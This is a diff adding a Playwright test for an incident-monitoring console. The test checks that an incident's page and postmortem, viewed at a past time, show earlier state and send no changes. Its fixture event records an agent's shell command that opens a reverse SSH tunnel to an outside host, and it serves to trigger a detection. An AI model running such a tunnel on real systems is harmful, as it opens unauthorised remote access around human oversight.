@@ -44,6 +44,53 @@ test.afterAll(async () => {
   await product.stop()
 })
 
+test('an incident goes back with its page, its timeline and its postmortem, and nothing is done to it', async ({
+  page,
+}) => {
+  const session = 'ep-back'
+  const act = async (kind: string, data: object) => {
+    const event = { v: 1, kind, atMs: Date.now(), session, data }
+    expect((await product.api('/api/ingest/events', { method: 'POST', body: JSON.stringify(event) })).ok).toBe(true)
+  }
+  const change = (wish: object) =>
+    product.api('/api/incidents/INC-1/changes', {
+      method: 'POST',
+      headers: { 'content-type': 'application/json' },
+      body: JSON.stringify(wish),
+    })
+  await act('session.started', { held: 'none', abilities: [] })
+  await act('action.started', { call: 'c1', tool: 'shell', input: 'ssh -fN -R 2222:127.0.0.1:22 ops@203.0.113.40' })
+  const formed = async () => (await product.json<{ incidents: unknown[] }>('/api/incidents')).incidents.length === 1
+  await until('the incident has formed', formed)
+  const atMs = Date.now()
+  await until('the clock has gone on', async () => Date.now() > atMs + 5)
+  await change({ type: 'retitle', title: 'A later title' })
+  await change({ type: 'resolve', verdict: 'true', reason: 'ended by hand' })
+
+  await signIn(page, product)
+  const asked: string[] = []
+  page.on('request', (request) => {
+    if (request.method() !== 'GET' && request.url().includes('/api/incidents')) asked.push(request.url())
+  })
+  await page.goto(`${product.url}/incidents?at=${atMs}`)
+  await expect(page.getByText(/behind live/)).toBeVisible()
+  await page.getByRole('link', { name: /INC-1/ }).first().click()
+  await page.waitForURL(/\/incidents\/INC-1\?.*at=\d+/)
+  await expect(page.getByRole('heading', { level: 1 })).not.toHaveText(/A later title/)
+  await expect(page.getByText('This is the past: go back to live to act').first()).toBeVisible()
+  await page.keyboard.press('a')
+  await page.getByRole('button', { name: 'Acknowledge' }).click({ force: true })
+  const { violations } = await new AxeBuilder({ page }).analyze()
+  expect(violations.map(({ id, nodes }) => [id, nodes[0]?.html])).toEqual([])
+  await page.getByRole('link', { name: 'Postmortem' }).click()
+  await page.waitForURL(/\/postmortem\?.*at=\d+/)
+  await expect(page.getByText(/behind live/)).toBeVisible()
+  await expect(page.getByText('A later title')).toHaveCount(0)
+  await page.keyboard.press('Escape')
+  await expect(page.getByText('A later title').first()).toBeVisible()
+  expect(asked).toEqual([])
+})
+
 test('GPUs, egress and numbers go back with the console, and what came later is on none of them', async ({ page }) => {
   const asked: string[] = []
   page.on('request', (request) => {
